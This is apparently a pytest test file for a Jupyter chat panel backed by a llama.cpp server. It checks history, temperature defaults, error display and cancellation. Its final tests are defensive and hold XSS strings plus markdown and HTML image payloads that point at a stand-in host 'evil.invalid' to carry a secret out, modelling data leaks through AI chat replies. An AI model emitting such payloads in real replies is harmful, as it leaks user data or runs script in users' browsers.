"""The chat panel, in process: against the real server, and against a fake chat source."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Sequence
from typing import Any

import httpx
import pytest

from rocm_nb import Client, LocalModel
from rocm_nb.client._accumulator import Accumulator
from rocm_nb.client.completion import Message
from rocm_nb.client.request import DEFAULT_MAX_TOKENS, DEFAULT_TEMPERATURE, check_request
from rocm_nb.client.stream import AsyncTokenStream
from rocm_nb.notebook.chat import ChatPanel, ChatSource, _bubble_html, _plain_html, render_markdown
from tests.support.decoding import assert_decoding_stopped


class ScriptedSource:
    """A chat source that is not a Client: it answers every turn with the same events."""

    def __init__(self, *pieces: str) -> None:
        self.pieces = pieces
        self.asked: list[list[dict[str, Any]]] = []
        self.bodies: list[dict[str, Any]] = []

    def achat_stream(self, messages: Sequence[Message], **options: Any) -> AsyncTokenStream:
        payload = check_request("chat", messages, options).body("llama.cpp")  # checks the options, as a Client does
        self.asked.append(payload["messages"])
        self.bodies.append(payload)
        events = "".join(f"data: {json.dumps({'choices': [{'delta': {'content': p}}]})}\n\n" for p in self.pieces)
        body = (events + 'data: {"choices": [{"delta": {}, "finish_reason": "stop"}]}\n\ndata: [DONE]\n\n').encode()

        async def respond() -> httpx.Response:
            request = httpx.Request("POST", "http://fake/v1/chat/completions")
            return httpx.Response(200, headers={"content-type": "text/event-stream"}, content=body, request=request)

        return AsyncTokenStream(respond, Accumulator("chat"), lambda exc, partial: None)


@pytest.mark.unit
async def test_the_panel_takes_any_chat_source() -> None:
    source = ScriptedSource("Hello", ", Ada")
    assert isinstance(source, ChatSource)
    panel = ChatPanel(source, system="Be kind.")
    await panel.send("Hi, I am Ada.")
    assert panel.history[-1] == {"role": "assistant", "content": "Hello, Ada"}
    assert source.asked[0] == [{"role": "system", "content": "Be kind."}, {"role": "user", "content": "Hi, I am Ada."}]
    await panel.send("Again?")
    assert [m["role"] for m in source.asked[1]] == ["system", "user", "assistant", "user"]


@pytest.mark.unit
async def test_the_temperature_is_the_servers_until_it_is_given_or_moved() -> None:
    """One default: the slider starts at llama-server's temperature and sends nothing until the user sets one."""
    source = ScriptedSource("Hi")
    panel = ChatPanel(source)
    assert panel.temperature.value == DEFAULT_TEMPERATURE == 0.8
    await panel.send("Hello")
    assert "temperature" not in source.bodies[-1] and source.bodies[-1]["max_tokens"] == DEFAULT_MAX_TOKENS
    panel.temperature.value = 0.3
    await panel.send("Again")
    assert source.bodies[-1]["temperature"] == 0.3
    given = ScriptedSource("Hi")
    await ChatPanel(given, temperature=0.0).send("Hello")
    assert given.bodies[-1]["temperature"] == 0.0


@pytest.mark.unit
async def test_bad_options_show_as_an_error_bubble_not_a_stuck_reply() -> None:
    with pytest.raises(TypeError, match="unknown option"):  # the panel checks its options when made
        ChatPanel(ScriptedSource("never"), temprature=0.5)  # type: ignore[call-arg]
    source = ScriptedSource("never")
    panel = ChatPanel(source)
    source.pieces = ("never", 1)  # type: ignore[assignment]  # what fails later still shows in the panel
    task = panel.send("Hello?")
    await task  # the task ends normally: nothing is left as "Task exception was never retrieved"
    assert task.exception() is None
    bubble = panel.transcript.children[-1].value
    assert "rocm-nb-error" in bubble and "StreamProtocolError: " in bubble and "▌" not in bubble
    assert "StreamProtocolError" in panel.stats.value
    assert panel.send_button.disabled is False and panel.stop_button.disabled is True


@pytest.mark.server
async def test_a_conversation_with_history_stats_and_prompt_cache(model: LocalModel) -> None:
    panel = model.panel(system="You are a helpful assistant.", temperature=0.0, max_tokens=24)
    await panel.send("Name a fruit.")
    assert [m["role"] for m in panel.history] == ["user", "assistant"]
    assert panel.history[1]["content"]
    assert "tokens" in panel.stats.value
    assert len(panel.transcript.children) == 2
    assert "rocm-nb-assistant" in panel.transcript.children[1].value
    first = panel.last
    await panel.send("Name another one.")
    second = panel.last
    assert first is not None and second is not None and second.timings is not None
    # turn 2 re-sends turn 1, and the server takes that prefix from its cache
    assert (second.timings.cached_tokens or 0) >= (first.timings.prompt_tokens if first.timings else 1)
    assert "from cache" in panel.stats.value
    exported = panel.export()
    assert exported[0] == {"role": "system", "content": "You are a helpful assistant."}
    assert json.loads(json.dumps(exported)) == exported
    panel.clear()
    assert panel.history == [] and panel.transcript.children == ()


@pytest.mark.server
async def test_stop_cancels_the_reply_on_the_server(model: LocalModel) -> None:
    panel = model.panel(temperature=0.0, max_tokens=3000)
    task = panel.send("Write a very long story about a lighthouse keeper.")
    assert panel.busy and not panel.stop_button.disabled
    bubble_start = None
    empty_bubble = _bubble_html("assistant", _plain_html("▌"))
    for _ in range(3000):  # until the first tokens show (a hang guard of a minute, not a measurement)
        await asyncio.sleep(0.02)
        if len(panel.transcript.children) == 2 and panel.transcript.children[1].value != empty_bubble:
            bubble_start = panel.transcript.children[1].value
            break
    assert bubble_start is not None
    panel.stop()
    await task
    assert "stopped" in panel.stats.value
    assert panel.send_button.disabled is False and panel.stop_button.disabled is True
    await asyncio.to_thread(assert_decoding_stopped, model, 60)  # the server decodes nothing more for it


@pytest.mark.unit
async def test_send_by_enter_and_errors_show_in_the_panel() -> None:
    dead = Client("http://127.0.0.1:9")  # nothing listens on the discard port
    panel = ChatPanel(dead)
    panel.prompt.value = "Hello?"  # what pressing Enter does with continuous_update=False
    assert panel.prompt.value == ""
    assert panel._task is not None
    await panel._task
    assert "ServerUnavailable" in panel.stats.value
    bubble = panel.transcript.children[-1].value
    assert "rocm-nb-error" in bubble and "could not reach" in bubble
    assert "Is the server running" in bubble, "the error's notes show in the bubble too"


@pytest.mark.unit
def test_markdown_is_rendered_and_html_escaped() -> None:
    assert "<strong>" in render_markdown("**bold**")
    assert "<script>" not in render_markdown("<script>alert(1)</script>")
    assert "href" not in render_markdown("[go](javascript:alert(1))")


@pytest.mark.unit
@pytest.mark.parametrize("text", [
    "![x](http://evil.invalid/?q=secret)",
    "![x][r]\n\n[r]: http://evil.invalid/?q=secret",
    "<img src=http://evil.invalid/?q=secret>",
])
async def test_a_reply_with_an_image_shows_its_url_and_loads_nothing(text: str) -> None:
    panel = ChatPanel(ScriptedSource(text))
    await panel.send("Summarise this page")
    bubble = panel.transcript.children[-1].value
    assert "<img" not in bubble and "http://evil.invalid/?q=secret" in bubble
